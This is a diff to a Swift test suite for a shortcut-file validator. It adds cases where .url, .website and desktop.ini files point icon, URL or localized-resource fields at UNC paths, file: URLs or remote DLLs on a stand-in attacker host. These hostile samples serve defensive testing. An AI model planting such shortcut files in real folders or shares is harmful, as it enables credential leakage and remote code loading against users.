@@ -68,6 +68,23 @@ struct LinkFileTests {
       ("desktop.ini", shortcut("[.ShellClassInfo]", #"IconResource=\\attacker.example\share\i.ico,0"#), "its IconResource is a UNC path"),
       ("Desktop.INI", shortcut("[.ShellClassInfo]", #"IconFile="//attacker.example/share/i.ico""#), "its IconFile is a UNC path"),
       ("desktop.ini", shortcut("[.ShellClassInfo]", "IconFile=file://attacker.example/i.ico"), "its IconFile is a file: URL"),
+      // Review 43: quotes Windows takes off, and the module of an indirect string.
+      (
+        "dq.url", shortcut("[InternetShortcut]", "URL=https://example.org/", #"IconFile="\\198.18.0.5\s\i.ico""#),
+        "its IconFile is a UNC path"
+      ),
+      (
+        "sq.url", shortcut("[InternetShortcut]", "URL=https://example.org/", #"IconFile='\\198.18.0.5\s\i.ico'"#),
+        "its IconFile is a UNC path"
+      ),
+      ("dq.website", shortcut("[InternetShortcut]", "URL=https://example.org/", #"IconFile="file://198.18.0.5/i.ico""#), "a file: URL"),
+      ("q.url", shortcut("[InternetShortcut]", #"URL="file:///C:/Windows/System32/calc.exe""#), "its URL is a file: URL"),
+      ("desktop.ini", shortcut("[.ShellClassInfo]", #"IconResource='\\198.18.0.5\s\i.ico',0"#), "its IconResource is a UNC path"),
+      (
+        "desktop.ini", shortcut("[.ShellClassInfo]", #"LocalizedResourceName=@\\198.18.0.5\s\x.dll,-101"#),
+        "its LocalizedResourceName is a UNC path"
+      ),
+      ("desktop.ini", shortcut("[.ShellClassInfo]", #"InfoTip=@//198.18.0.5/s/x.dll,-12"#), "its InfoTip is a UNC path"),
     ] as [(String, [UInt8], String)])
   func refused(name: String, bytes: [UInt8], words: String) throws {
     let verdict = try verdict(name, bytes)
@@ -99,6 +116,11 @@ struct LinkFileTests {
       ("notes.txt", shortcut("[InternetShortcut]", "URL=javascript:alert(1)"), "com.microsoft.internet-shortcut"),
       // A folder's settings with its icon on this disk, and another name holding a UNC icon.
       ("desktop.ini", shortcut("[.ShellClassInfo]", #"IconResource=C:\Windows\System32\imageres.dll,-3"#), ""),
+      (
+        "desktop.ini",
+        shortcut("[.ShellClassInfo]", #"LocalizedResourceName=@%SystemRoot%\system32\shell32.dll,-21770"#, "InfoTip=Photos"), ""
+      ),
+      ("quoted.url", shortcut("[InternetShortcut]", #"URL="https://example.org/""#), "com.microsoft.internet-shortcut"),
       ("settings.ini", shortcut("[.ShellClassInfo]", #"IconResource=\\attacker.example\share\i.ico,0"#), ""),
     ] as [(String, [UInt8], String)])
   func accepted(name: String, bytes: [UInt8], type: String) throws {
